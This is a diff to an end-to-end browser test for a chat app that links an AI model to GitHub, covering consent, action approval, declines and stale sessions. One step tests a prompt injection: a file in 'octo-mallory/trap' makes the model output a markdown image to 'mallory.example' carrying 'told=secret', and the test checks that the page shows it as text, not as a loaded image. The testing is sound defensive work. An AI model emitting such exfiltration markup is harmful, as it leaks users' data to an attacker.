@@ -19,16 +19,19 @@ async function person(browser, name, application) {
 }
 
 async function say(page, text) {
+  await page.getByRole("button", { name: "Send" }).waitFor();
   await page.getByLabel("Your message").fill(text);
   await page.getByLabel("Your message").press("Enter");
 }
 
 /** The box in which `page` asks whether to create the issue; it shows exactly what would be done. */
 async function toApprove(page) {
-  const box = page.locator(".consent");
-  await box.getByRole("button", { name: "Approve" }).waitFor();
-  const said = (await box.innerText()).split("{")[0].trim();
-  assert.equal(said, 'Countersign wants to do this as "octo-alice": "github_create_issue"');
+  const box = page.locator(".card");
+  await box.getByRole("heading", { name: "Create this issue?" }).waitFor();
+  const shown = await box.locator("dt, dd").allInnerTexts();
+  const fields = ["As", "octo-alice", "In", "octo-alice/diary", "Visibility", "private", "Title", "Water the Tomatoes"];
+  assert.deepEqual(shown, fields);
+  await box.getByText("Exactly what is sent").click();
   const input = { owner: "octo-alice", repo: "diary", title: "Water the Tomatoes" };
   assert.deepEqual(JSON.parse(await box.locator("code").innerText()), input);
   return box;
@@ -36,8 +39,8 @@ async function toApprove(page) {
 
 /** Whatever Unicode says can't be seen, the page's own rule shows by its code. */
 function nothingStaysHidden() {
-  const source = readFileSync(new URL("../../functions/invoke/src/chat.js", import.meta.url), "utf8");
-  const rule = source.match(/const hidden = \/(.+)\/gu;/)[1];
+  const source = readFileSync(new URL("../../functions/invoke/src/page/dom.js", import.meta.url), "utf8");
+  const rule = source.match(/const HIDDEN = \/(.+)\/gu;/)[1];
   const [shown, invisible] = [rule, "[\\p{Default_Ignorable_Code_Point}\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}\\p{Bidi_C}]"]
     .map((pattern) => new RegExp(pattern, "u"));
   for (let code = 0; code <= 0x10ffff; code++) {
@@ -60,8 +63,7 @@ async function shoot(page, name) {
 async function picture(page, name) {
   if (!screenshots) return;
   const usual = page.viewportSize();
-  await page.setViewportSize({ width: 720, height: 600 });
-  await page.getByRole("button", { name: "New conversation" }).scrollIntoViewIfNeeded();
+  await page.setViewportSize({ width: 720, height: 640 });
   await page.screenshot({ path: join(screenshots, `${name}.png`) });
   await page.setViewportSize(usual);
 }
@@ -74,7 +76,7 @@ await withWorld({ local, executablePath, options }, async ({ browser, applicatio
   step("alice signs in and is answered");
 
   await say(alice, "Which repositories do I have, private ones too?");
-  const link = alice.getByRole("link", { name: "Authorize github" });
+  const link = alice.getByRole("link", { name: "Connect GitHub" });
   await link.waitFor();
   await shoot(alice, "interrupted");
   await picture(alice, "consent");
@@ -95,39 +97,48 @@ await withWorld({ local, executablePath, options }, async ({ browser, applicatio
   await shoot(github, "connected");
   step("alice consents and is connected");
 
-  await alice.getByText("octo-alice/garden").waitFor();
-  assert.equal(await alice.getByText("needs your consent").count(), 0);
+  await alice.locator(".prose").getByText("octo-alice/garden").waitFor();
+  assert.equal(await alice.locator(".card").count(), 0);
   await shoot(alice, "answered");
   step("the conversation goes on by itself");
 
   await github.reload();
   await github.getByRole("heading", { name: "You are connected" }).waitFor();
   await say(alice, "List my repositories again.");
-  await alice.getByText("octo-alice/diary").nth(1).waitFor();
+  await alice.locator(".prose").getByText("octo-alice/diary").nth(1).waitFor();
   step("the next turn needs no consent");
 
   // The writer of the file wants the page to send something to their server.
   await say(alice, "(obeys results) Please read links.md in octo-mallory/trap");
-  await alice.getByText("![See](https://mallory.example/pixel.png?told=secret)").waitFor();
-  assert.equal(await alice.locator("img, a[href*='mallory']").count(), 0);
-  step("an image and a link that the model was told to say are text, address and all");
+  await alice.locator(".target").getByText("(https://mallory.example/pixel.png?told=secret)").waitFor();
+  const image = alice.locator(".prose a[href*='pixel.png']");
+  assert.equal(await image.innerText(), "image: See");
+  assert.equal(await alice.locator("img, .prose [style], .prose script").count(), 0);
+  for (const link of await alice.locator(".prose a[href*='mallory']").all()) {
+    const after = await link.evaluate((it) => it.nextElementSibling?.textContent ?? it.textContent);
+    assert.ok(after.includes(await link.getAttribute("href")), `${after} does not say where it leads`);
+  }
+  step("an image that the model was told to say is a link, and a link shows its address, all of it");
 
   const create = "Please create an issue in octo-alice/diary: Water the Tomatoes";
   await say(alice, create);
   let box = await toApprove(alice);
   await shoot(alice, "to-approve");
   await picture(alice, "approval");
+  await box.getByRole("button", { name: "Don’t" }).click();
+  await box.getByLabel("Why not?").fill("it rains");
   await box.getByRole("button", { name: "Decline" }).click();
-  await alice.getByText("the user declined it").waitFor();
-  assert.equal(await alice.locator(".consent").count(), 0);
+  await alice.locator(".prose").getByText("it rains").waitFor();
+  await alice.getByText("you declined it: it rains").waitFor();
+  assert.equal(await alice.locator(".card").count(), 0);
   step("an action is shown exactly, and declined");
 
   await say(alice, create);
   box = await toApprove(alice);
-  await box.getByRole("button", { name: "Approve" }).click();
+  await box.getByRole("button", { name: "Create issue" }).click();
   // Numbers begin at 1: what was declined was not done.
   await alice.getByText("I created issue 1:").waitFor();
-  assert.equal(await alice.locator(".consent").count(), 0);
+  assert.equal(await alice.locator(".card").count(), 0);
   await shoot(alice, "approved");
   const created = await alice.getByText("I created issue 1:").innerText();
   const issue = await alice.context().newPage();
@@ -139,15 +150,16 @@ await withWorld({ local, executablePath, options }, async ({ browser, applicatio
 
   await bob.goto(application);
   await say(bob, "Which repositories do I have, private ones too?");
-  const asked = bob.getByRole("link", { name: "Authorize github" });
+  const asked = bob.getByRole("link", { name: "Connect GitHub" });
   const [refusing] = await Promise.all([bob.context().waitForEvent("page"), asked.click()]);
   await refusing.getByRole("button", { name: "Cancel" }).click();
   await refusing.getByRole("heading", { name: "You did not allow it" }).waitFor();
   assert.equal(new URL(refusing.url()).search, "?result=declined");
   await shoot(refusing, "declined");
-  await bob.getByRole("button", { name: "Don’t allow" }).click();
-  await bob.getByText("declined to authorize").waitFor();
-  assert.equal(await bob.locator(".consent").count(), 0);
+  await bob.getByRole("button", { name: "Not now" }).click();
+  await bob.locator(".prose").getByText("declined to authorize").waitFor();
+  await bob.getByText("you did not connect it").waitFor();
+  assert.equal(await bob.locator(".card").count(), 0);
   step("bob allows nothing, neither at GitHub nor here");
 
   await alice.goto(new URL("/docs/", application).href);
@@ -165,9 +177,9 @@ await withWorld({ local, executablePath, options }, async ({ browser, applicatio
   await other.getByRole("button", { name: "Sign in as Bob Example" }).click();
   await other.getByText("Signed in as Bob Example (bob@example.com)").waitFor();
   await say(alice, "Which repositories do I have, private ones too?");
-  await alice.getByText("Another person has signed in in this browser").waitFor();
+  await alice.locator(".problem").getByText("Another person has signed in in this browser").waitFor();
   await shoot(alice, "stale");
-  await alice.getByRole("button", { name: "Reload" }).click();
+  await alice.locator(".problem").getByRole("button", { name: "Reload" }).click();
   await alice.getByText("Signed in as Bob Example").waitFor();
   step("a tab that was alice's does nothing for bob, who has signed in since");
 
@@ -179,11 +191,12 @@ const app = ["--port", "0", "--github-app"];
 await withWorld({ local, executablePath, options: app }, async ({ browser, application }) => {
   const alice = await person(browser, "Alice Example", application);
   await say(alice, "read 2026-10.md in octo-alice/diary");
-  const card = alice.locator(".consent");
-  const link = card.getByRole("link", { name: "Authorize github" });
+  const card = alice.locator(".card");
+  const link = card.getByRole("link", { name: "Connect GitHub" });
   await link.waitFor();
-  const said = await card.innerText();
-  assert.match(said, /^To go on, Countersign needs your consent at github\. You choose the repositories at GitHub \(http/);
+  const fields = await card.locator("dt").allInnerTexts();
+  assert.deepEqual(fields, ["To", "You choose", "Kept by", "You leave for"], "and no scopes");
+  assert.match(await card.locator("dd").nth(1).innerText(), /^You choose the repositories at GitHub \(http/);
   await shoot(alice, "app-interrupted");
   const [github] = await Promise.all([alice.context().waitForEvent("page"), link.click()]);
   await github.getByLabel("only these:").check();
@@ -191,7 +204,7 @@ await withWorld({ local, executablePath, options: app }, async ({ browser, appli
   await shoot(github, "app-github");
   await github.getByRole("button", { name: "Authorize as octo-alice" }).click();
   await github.getByRole("heading", { name: "You are connected" }).waitFor();
-  const missing = alice.getByText("GitHub does not show octo-alice/diary to the app");
+  const missing = alice.locator(".prose").getByText("GitHub does not show octo-alice/diary to the app");
   await missing.waitFor();
   assert.equal(await card.count(), 0);
   await shoot(alice, "app-missing");
@@ -202,7 +215,7 @@ await withWorld({ local, executablePath, options: app }, async ({ browser, appli
   await github.getByRole("button", { name: "Install for octo-alice" }).click();
   await github.getByRole("heading", { name: "is installed as you chose" }).waitFor();
   await say(alice, "read 2026-10.md in octo-alice/diary");
-  await alice.getByText("The first frost came early.").waitFor();
+  await alice.locator(".prose").getByText("The first frost came early.").waitFor();
   assert.deepEqual(problems, []);
   step("once it is chosen there, the same question is answered");
 });
